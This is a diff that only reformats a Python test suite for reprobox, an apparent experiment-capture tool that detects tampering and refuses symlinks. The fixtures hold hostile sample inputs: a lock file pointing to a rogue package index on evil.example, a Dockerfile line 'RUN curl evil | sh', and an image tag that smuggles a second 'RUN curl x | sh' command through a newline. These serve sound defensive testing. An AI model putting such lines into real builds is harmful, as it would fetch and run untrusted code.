@@ -28,8 +28,10 @@ from ..asserts import refuses
 from ..factories import make_env, make_exp
 from ..hostile import plant_file, reseal
 
-PATCH = (b"diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n"
-         b"@@ -1 +1 @@\n-print(1)\n+print(2)\n")
+PATCH = (
+    b"diff --git a/train.py b/train.py\n--- a/train.py\n+++ b/train.py\n"
+    b"@@ -1 +1 @@\n-print(1)\n+print(2)\n"
+)
 FILES = {
     "requirements.lock": "numpy==1.26.4 --hash=sha256:" + "a" * 64 + "\n",
     "pylock.toml": 'lock-version = "1.0"\n',
@@ -56,16 +58,27 @@ def outside(tmp_path: Path) -> Path:
 
 
 def snapshot(folder: Path) -> dict[str, bytes]:
-    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else b"<dir>")
-            for p in sorted(folder.rglob("*"))}
+    return {
+        str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else b"<dir>")
+        for p in sorted(folder.rglob("*"))
+    }
 
 
-def full_capture(store: Store, name: str = "baseline", created: str = "2026-11-27T10:00:00Z",
-                 acc: float = 0.93) -> StoredExperiment:
+def full_capture(
+    store: Store, name: str = "baseline", created: str = "2026-11-27T10:00:00Z", acc: float = 0.93
+) -> StoredExperiment:
     env = make_env()
     exp = make_exp(env, name=name, created=created, acc=acc)
-    exp = replace(exp, git=GitInfo(commit="a" * 40, branch="main", dirty=True, patch="patch.diff",
-                                   patch_sha256=sha256_hex(PATCH)))
+    exp = replace(
+        exp,
+        git=GitInfo(
+            commit="a" * 40,
+            branch="main",
+            dirty=True,
+            patch="patch.diff",
+            patch_sha256=sha256_hex(PATCH),
+        ),
+    )
     return store.save(exp, env, FILES)
 
 
@@ -89,6 +102,7 @@ def _change(name: str, data: bytes) -> Callable[[Path], str]:
     def edit(folder: Path) -> str:
         (folder / name).write_bytes(data)
         return f"{name} was changed after capture"
+
     return edit
 
 
@@ -108,6 +122,7 @@ def _field(key: str, value: object) -> Callable[[Path], str]:
         doc[key] = value
         (folder / "experiment.json").write_text(json.dumps(doc))
         return "experiment.json was modified after capture"
+
     return edit
 
 
@@ -124,8 +139,9 @@ TAMPER = {
     "tool_version": _field("tool_version", "0.0.1"),
     "image field": _field("image", "evil/image:latest"),
     "os and hardware": _env_field,
-    "requirements.lock": _change("requirements.lock",
-                                 b"--extra-index-url https://evil.example/simple\nevil==1\n"),
+    "requirements.lock": _change(
+        "requirements.lock", b"--extra-index-url https://evil.example/simple\nevil==1\n"
+    ),
     "pylock.toml": _change("pylock.toml", b'lock-version = "1.0"\n[[packages]]\nname = "evil"\n'),
     "Dockerfile": _change("Dockerfile", b"FROM evil/base\nRUN curl evil | sh\n"),
     "patch.diff": _change("patch.diff", PATCH.replace(b"print(2)", b"print(3)")),
@@ -308,8 +324,9 @@ def test_no_usable_experiment_is_a_clear_error(repo: Path) -> None:
 # --------------------------------------------------------------------------- links
 
 
-def test_linked_store_folder_is_refused_and_nothing_written_outside(repo: Path,
-                                                                    outside: Path) -> None:
+def test_linked_store_folder_is_refused_and_nothing_written_outside(
+    repo: Path, outside: Path
+) -> None:
     os.symlink(outside, repo / ".reprobox")
     before = snapshot(outside)
     store = Store(repo)
@@ -321,10 +338,16 @@ def test_linked_store_folder_is_refused_and_nothing_written_outside(repo: Path,
     assert snapshot(outside) == before
 
 
-@pytest.mark.parametrize("linked", [
-    ".reprobox/experiments", ".reprobox/local", ".reprobox/local/images",
-    ".reprobox/local/runs", ".reprobox/local/cache",
-])
+@pytest.mark.parametrize(
+    "linked",
+    [
+        ".reprobox/experiments",
+        ".reprobox/local",
+        ".reprobox/local/images",
+        ".reprobox/local/runs",
+        ".reprobox/local/cache",
+    ],
+)
 def test_every_store_component_refuses_a_link(repo: Path, outside: Path, linked: str) -> None:
     import datetime as dt
 
@@ -395,9 +418,15 @@ def test_hostile_local_image_record_is_ignored(repo: Path) -> None:
     stored = full_capture(store)
     images = repo / ".reprobox" / "local" / "images"
     images.mkdir(parents=True)
-    (images / f"{stored.id}.json").write_text(json.dumps(
-        {"schema": "reprobox.local-image/1", "experiment": stored.id,
-         "tag": "evil\nRUN curl x | sh"}))
+    (images / f"{stored.id}.json").write_text(
+        json.dumps(
+            {
+                "schema": "reprobox.local-image/1",
+                "experiment": stored.id,
+                "tag": "evil\nRUN curl x | sh",
+            }
+        )
+    )
     assert store.load(stored.id).image is None
 
 
@@ -434,7 +463,9 @@ def test_docker_backend_uses_a_local_image_only_when_its_labels_match(repo: Path
     said: list[str] = []
     backend = DockerBackend(_Engine({"evil/any:latest": {"maintainer": "x"}}))
     assert not backend._usable("evil/any:latest", stored, said.append)
-    assert any("not using the local image evil/any:latest" in s and "reprobox.experiment" in s
-               for s in said)
+    assert any(
+        "not using the local image evil/any:latest" in s and "reprobox.experiment" in s
+        for s in said
+    )
     ok = {"reprobox.experiment": stored.id, "reprobox.env-digest": stored.environment.digest}
     assert DockerBackend(_Engine({"t:1": ok}))._usable("t:1", stored, said.append)
